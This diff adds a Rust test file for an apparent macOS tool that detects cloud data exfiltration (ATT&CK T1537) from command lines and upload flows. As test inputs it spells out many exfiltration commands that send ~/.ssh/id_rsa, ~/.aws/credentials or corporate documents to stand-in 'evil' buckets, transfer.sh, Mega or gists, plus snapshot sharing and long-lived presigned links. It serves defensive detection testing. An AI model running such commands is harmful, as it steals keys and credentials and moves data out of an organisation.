@@ -1,0 +1,346 @@
+//! What the command lines of cloud tools say by themselves: T1537 without a byte from this Mac, and uploads whose command
+//! names file and destination.
+
+use super::world::*;
+
+const ZSH: Program = apple("/bin/zsh", "com.apple.zsh");
+const OWN: &str = include_str!("commands/own.toml");
+
+/// A tool as a package manager installs it.
+fn tool(name: &'static str) -> Program {
+    let path: &'static str = format!("/opt/homebrew/bin/{name}").leak();
+    adhoc(path, name)
+}
+
+fn own() -> String {
+    format!("{CORP}\n{OWN}")
+}
+
+/// One command by a shell's child, and nothing else.
+fn run(line: &str, policy: &str) -> Told {
+    let words: Vec<&'static str> = line.split(' ').map(|word| &*word.to_owned().leak()).collect();
+    let mut w = World::new();
+    policy.clone_into(&mut w.policy);
+    let shell = w.launch(0.0, ZSH, &["-zsh"]);
+    w.spawn(1.0, &shell, tool(words[0]), &words);
+    w.tell()
+}
+
+#[test]
+fn handing_data_over_is_told_and_its_twin_is_not() {
+    let policy = own();
+    let lines = include_str!("commands/handed_over.tsv").lines().filter(|line| !line.starts_with('#'));
+    let mut told = 0;
+    for line in lines {
+        let [service, tenant, foreign, twin] = line.split('\t').collect::<Vec<_>>()[..] else {
+            panic!("four columns: {line}")
+        };
+        let story = run(foreign, &policy);
+        let alerts = story.alerts();
+        assert_eq!(alerts.len(), 1, "{foreign}: {alerts:#?}");
+        let alert = story.alert();
+        assert_eq!(alert.service.as_deref(), Some(service), "{foreign}");
+        assert_eq!(alert.tenant.as_deref(), Some(tenant), "{foreign}");
+        assert_eq!(alert.tenant_verdict.as_str(), "foreign", "{foreign}");
+        assert_eq!(alert.rules[0].techniques[0].as_ref(), "T1537", "{foreign}");
+        assert_eq!(alert.count, 1, "{foreign}");
+        let quiet = run(twin, &policy);
+        assert!(quiet.alerts().is_empty(), "{twin}: {:#?}", quiet.alerts());
+        told += 1;
+    }
+    assert!(told >= 40, "{told} lines");
+}
+
+#[test]
+fn m38_snapshot_shared_with_another_account() {
+    let line = "aws ec2 modify-snapshot-attribute --snapshot-id snap-0 --create-volume-permission Add=[{UserId=999988887777}]";
+    let told = run(line, CORP);
+    let alert = told.alert();
+    assert_eq!(alert.rules[0].id.as_ref(), "cw.transfer.control-plane");
+    assert_eq!((alert.tenant.as_deref(), alert.bytes_out), (Some("999988887777"), 0));
+    assert!(alert.reads.is_empty() && alert.flows.is_empty());
+    for record in &told.records {
+        let text = cloudward::sink::format::text(record);
+        assert!(text.contains("999988887777") && !text.contains("after a sensitive read"), "{text}");
+    }
+}
+
+#[test]
+fn m39_bucket_synced_to_another() {
+    let told = run("aws s3 sync s3://corp s3://evil --source-region eu-west-1", CORP);
+    assert_eq!(told.alert().tenant.as_deref(), Some("evil"));
+}
+
+/// The command is seen twice: on the wrapper's line, and when the tool itself starts. It is one deed.
+#[test]
+fn m39_through_wrappers() {
+    let inner = ["aws", "s3", "sync", "s3://corp", "s3://evil"];
+    let line = inner.join(" ");
+    for (wrapper, args) in [
+        (ZSH, vec!["zsh", "-c", &*line]),
+        (apple("/usr/bin/env", "com.apple.env"), [&["env", "A=1"][..], &inner[..]].concat()),
+        (apple("/usr/bin/nohup", "com.apple.nohup"), [&["nohup"][..], &inner[..]].concat()),
+        (apple("/usr/bin/sudo", "com.apple.sudo"), [&["sudo", "-u", "bob"][..], &inner[..]].concat()),
+    ] {
+        for forks in [false, true] {
+            let mut w = World::new();
+            let outer = w.launch(1.0, wrapper, &args);
+            let child = if forks { w.fork(1.1, &outer) } else { outer };
+            w.exec(1.2, &child, tool("aws"), &inner);
+            let told = w.tell();
+            let alert = told.alert();
+            assert_eq!((alert.count, alert.tenant.as_deref()), (1, Some("evil")), "{args:?}");
+            let mut alone = World::new();
+            alone.launch(1.0, wrapper, &args);
+            assert_eq!(alone.tell().alert().count, 1, "{args:?}");
+        }
+    }
+}
+
+/// Twice the same deed is two, of one alert.
+#[test]
+fn the_same_deed_again_counts() {
+    let mut w = World::new();
+    let shell = w.launch(0.0, ZSH, &["-zsh"]);
+    let line = ["aws", "s3", "sync", "s3://corp", "s3://evil"];
+    w.spawn(1.0, &shell, tool("aws"), &line);
+    w.spawn(90.0, &shell, tool("aws"), &line);
+    let told = w.tell();
+    assert_eq!((told.alert().count, told.alert().revision), (2, 2));
+}
+
+/// A link for years; a short one into one's own account is everyday work.
+#[test]
+fn m40_links_that_let_in_whoever_has_them() {
+    let policy = own();
+    for (line, severity) in [
+        (
+            "az storage container generate-sas --name c --account-name corpstore --permissions r --expiry 2030-01-01",
+            "high",
+        ),
+        (
+            "az storage blob generate-sas -c c -n b --account-name evilstore --expiry 2026-01-01T00:30Z",
+            "medium",
+        ),
+        ("aws s3 presign s3://corp-data/db.dump --expires-in 604800", "medium"),
+        ("gsutil signurl -d 7d key.json gs://corp-data/x", "medium"),
+        ("gcloud storage sign-url gs://corp-data/x --duration=12h", "medium"),
+        ("rclone link drive:plan.docx", "high"),
+        ("mega-export -a /plan.docx", "high"),
+        ("az snapshot grant-access --duration-in-seconds 86400 -n snap -g rg", "medium"),
+        (
+            "oci os preauth-request create -ns corptenancy -bn b --name n --access-type ObjectRead --time-expires 2030-01-01",
+            "high",
+        ),
+    ] {
+        let told = run(line, &policy);
+        let alert = told.low();
+        assert!(alert.reasons.iter().any(|reason| reason.code.as_str() == "bearer-link"), "{line}");
+        assert_eq!(alert.severity.as_str(), severity, "{line}");
+        assert_eq!(alert.rules[0].techniques[0].as_ref(), "T1537", "{line}");
+    }
+    for line in [
+        "aws s3 presign s3://corp-data/db.dump",
+        "aws s3 presign s3://corp-data/db.dump --expires-in 900",
+        "gsutil signurl -d 10m key.json gs://corp-data/x",
+        "az storage container generate-sas --name c --account-name corpstore --expiry 2026-01-01T00:30Z",
+    ] {
+        run(line, &policy).none();
+    }
+}
+
+/// Who is let in stands in a file, or the receiving account in the tool's own configuration.
+#[test]
+fn what_the_line_does_not_say_is_unknown() {
+    let policy = own();
+    for line in [
+        "aws s3api put-bucket-policy --bucket corp-data --policy file://policy.json",
+        "rclone copy corp-s3:corp-data gdrive:loot",
+    ] {
+        let told = run(line, &policy);
+        let alert = told.low();
+        assert_eq!((alert.tenant.as_deref(), alert.tenant_verdict.as_str()), (None, "unknown"), "{line}");
+        assert!(alert.reasons.iter().any(|reason| reason.code.as_str() == "tenant-unknown"), "{line}");
+    }
+    // Nothing at all is known of where it goes.
+    let told = run("rclone copy one:x two:y", &policy);
+    assert!(told.note().iter().any(|note| note.kind.as_str() == "name-hidden"));
+    // Without a word on what is ours, a copy between buckets may be anybody's.
+    run("aws s3 sync s3://a s3://b", "").low();
+}
+
+#[test]
+fn reading_and_listing_are_no_transfer() {
+    for line in [
+        "aws sts get-caller-identity",
+        "aws s3 ls s3://evil",
+        "aws s3 cp s3://evil/tool.zip /tmp/",
+        "aws ec2 describe-snapshots --owner-ids 999988887777",
+        "rclone ls evil-s3:evil",
+        "gsutil ls gs://evil",
+        "gcloud compute images list",
+        "az storage account list",
+        "gh repo view",
+        "curl -o /Users/alice/Documents/corp/x https://content.dropboxapi.com/x",
+    ] {
+        run(line, &own()).none();
+    }
+}
+
+/// The command names the file, the flow only the service: that is enough, and the bucket is known from the line.
+#[test]
+fn uploads_known_from_the_line() {
+    for (line, host, read, tenant) in [
+        (
+            "aws s3 cp /Users/alice/.ssh/id_rsa s3://evil/k",
+            "s3.eu-west-1.amazonaws.com",
+            "/.ssh/id_rsa",
+            Some("evil"),
+        ),
+        (
+            "aws s3 cp /Users/alice/.aws/credentials s3://evil/k",
+            "s3.amazonaws.com",
+            "/.aws/credentials",
+            Some("evil"),
+        ),
+        (
+            "aws s3api put-object --bucket evil --key k --body .ssh/id_rsa",
+            "s3.amazonaws.com",
+            "/.ssh/id_rsa",
+            Some("evil"),
+        ),
+        ("aws s3 sync Documents/corp s3://evil", "s3.amazonaws.com", "/Documents/corp", Some("evil")),
+        (
+            "rclone copy /Users/alice/.ssh/id_rsa evil:evil/x",
+            "s3.amazonaws.com",
+            "/.ssh/id_rsa",
+            Some("evil"),
+        ),
+        (
+            "rclone copy /Users/alice/.config/rclone/rclone.conf mega:",
+            "g.api.mega.co.nz",
+            "/rclone.conf",
+            None,
+        ),
+        ("gsutil cp .ssh/id_rsa gs://evil/", "storage.googleapis.com", "/.ssh/id_rsa", Some("evil")),
+        ("gcloud storage cp .ssh/id_rsa gs://evil/", "storage.googleapis.com", "/.ssh/id_rsa", Some("evil")),
+        ("curl -sST.ssh/id_rsa https://transfer.sh/k", "transfer.sh", "/.ssh/id_rsa", None),
+        ("curl -d@.ssh/id_rsa https://transfer.sh/", "transfer.sh", "/.ssh/id_rsa", None),
+        ("curl -F f=@.ssh/id_rsa;type=text/plain https://transfer.sh/", "transfer.sh", "/.ssh/id_rsa", None),
+        ("curl --upload-file=.ssh/id_rsa https://transfer.sh/", "transfer.sh", "/.ssh/id_rsa", None),
+        ("curl --data-binary @.ssh/id_rsa https://transfer.sh/", "transfer.sh", "/.ssh/id_rsa", None),
+        ("wget --post-file .ssh/id_rsa https://transfer.sh/", "transfer.sh", "/.ssh/id_rsa", None),
+        ("http POST https://transfer.sh/ f@.ssh/id_rsa", "transfer.sh", "/.ssh/id_rsa", None),
+        ("gh gist create -p .ssh/id_rsa", "api.github.com", "/.ssh/id_rsa", None),
+        ("b2 upload-file evil .ssh/id_rsa k", "api.backblazeb2.com", "/.ssh/id_rsa", Some("evil")),
+        ("mc cp .ssh/id_rsa s3/evil/k", "s3.amazonaws.com", "/.ssh/id_rsa", Some("evil")),
+        ("s3cmd put .ssh/id_rsa s3://evil/k", "s3.amazonaws.com", "/.ssh/id_rsa", Some("evil")),
+        (
+            "azcopy copy .ssh/id_rsa https://evil.blob.core.windows.net/c",
+            "evil.blob.core.windows.net",
+            "/.ssh/id_rsa",
+            Some("evil"),
+        ),
+        ("mega-put .ssh/id_rsa /loot", "g.api.mega.co.nz", "/.ssh/id_rsa", None),
+        ("dbxcli put .ssh/id_rsa /k", "content.dropboxapi.com", "/.ssh/id_rsa", None),
+    ] {
+        let words: Vec<&'static str> = line.split(' ').map(|word| &*word.to_owned().leak()).collect();
+        let mut w = World::new();
+        let p = w.launch(1.0, tool(words[0]), &words);
+        w.upload(2.0, &p, host, 20_000);
+        let told = w.tell();
+        let alert = told.one_of_any_confidence();
+        let first = &alert.reads[0];
+        assert_eq!(first.evidence.as_str(), "argv", "{line}");
+        assert!(first.path.to_string().ends_with(read), "{line}: {}", first.path);
+        assert_eq!(alert.tenant.as_deref(), tenant, "{line}");
+    }
+}
+
+/// The bucket that the line names decides where the name on the wire hides it.
+#[test]
+fn b15_path_style_bucket_is_known_from_the_line() {
+    for (bucket, foreign) in [("corp-backup", false), ("evil", true)] {
+        let mut w = World::new();
+        let to: &'static str = format!("corp-s3:{bucket}").leak();
+        let p = w.launch(0.0, tool("rclone"), &["rclone", "sync", "/Users/alice/Documents", to]);
+        w.open(1.0, &p, "/Users/alice/Documents/corp/plan.docx");
+        w.upload(2.0, &p, "s3.eu-central-1.amazonaws.com", 800_000);
+        let told = w.tell();
+        if foreign { assert_eq!(told.alert().tenant.as_deref(), Some(bucket)) } else { told.none() }
+    }
+}
+
+/// A web address in path style hides its bucket, and nothing else tells it.
+#[test]
+fn path_style_address_hides_its_bucket() {
+    let mut w = World::new();
+    let args = ["curl", "-T", "/Users/alice/.ssh/id_rsa", "https://s3.eu-west-1.amazonaws.com/bucket/key"];
+    let p = w.launch(0.0, apple("/usr/bin/curl", "com.apple.curl"), &args);
+    w.upload(2.0, &p, "s3.eu-west-1.amazonaws.com", 20_000);
+    let told = w.tell();
+    assert_eq!((told.low().tenant.as_deref(), told.low().tenant_verdict.as_str()), (None, "unknown"));
+}
+
+/// rclone's destination is known only to its configuration; the name on the wire tells the service.
+#[test]
+fn m03_rclone_to_mega() {
+    let mut w = World::new();
+    let p = w.launch(0.0, tool("rclone"), &["rclone", "copy", "/Users/alice/Documents", "mega:"]);
+    w.open(1.0, &p, "/Users/alice/Documents/corp/plan.docx");
+    w.upload(2.0, &p, "gfs270n111.userstorage.mega.co.nz", 800_000);
+    let told = w.tell();
+    assert_eq!(told.alert().service.as_deref(), Some("mega"));
+}
+
+/// The interpreter runs a tool that is a script; a renamed tool is known by who signed it.
+#[test]
+fn tools_under_other_names() {
+    let inner = ["s3", "sync", "s3://corp", "s3://evil"];
+    let python = adhoc("/opt/homebrew/bin/python3.12", "python3");
+    let signed = vendor("/tmp/x", "com.amazon.aws.cli2", "94KV3E626L");
+    for (program, front) in [
+        (python, vec!["python3.12", "/opt/homebrew/bin/aws"]),
+        (python, vec!["python3.12", "-m", "awscli"]),
+        (signed, vec!["x"]),
+    ] {
+        let mut w = World::new();
+        w.launch(0.0, program, &[&front[..], &inner[..]].concat());
+        assert_eq!(w.tell().alert().tenant.as_deref(), Some("evil"), "{front:?}");
+    }
+}
+
+/// The endpoint says whose buckets they are; the account of a store comes from the environment.
+#[test]
+fn environment_and_endpoints() {
+    let told = |args: &[&str], env: &[&str]| {
+        let mut w = World::new();
+        w.policy = own();
+        let shell = w.launch(0.0, ZSH, &["-zsh"]);
+        let child = w.fork(1.0, &shell);
+        let program = tool(args[0].to_owned().leak());
+        w.exec_in(1.1, &child, program, args, "null", &[], &[&["HOME=/Users/alice"][..], env].concat());
+        w.tell()
+    };
+    let wasabi = "AWS_ENDPOINT_URL=https://s3.wasabisys.com";
+    let copy = ["aws", "s3", "sync", "s3://corp-data", "s3://corp-backup"];
+    told(&copy, &[]).none();
+    let elsewhere = told(&copy, &[wasabi]);
+    assert_eq!(elsewhere.one_of_any_confidence().service.as_deref(), Some("wasabi"));
+    let start = [
+        "az",
+        "storage",
+        "blob",
+        "copy",
+        "start",
+        "--source-uri",
+        "https://corpstore.blob.core.windows.net/c/b",
+        "-b",
+        "b",
+    ];
+    let named = told(&start, &["AZURE_STORAGE_ACCOUNT=evilstore"]);
+    assert_eq!(named.alert().tenant.as_deref(), Some("evilstore"));
+    let remotes = ["rclone", "sync", "corp-s3:corp-data", "x:loot"];
+    let typed = told(&remotes, &["RCLONE_CONFIG_X_TYPE=s3"]);
+    assert_eq!(typed.alert().tenant.as_deref(), Some("loot"));
+}
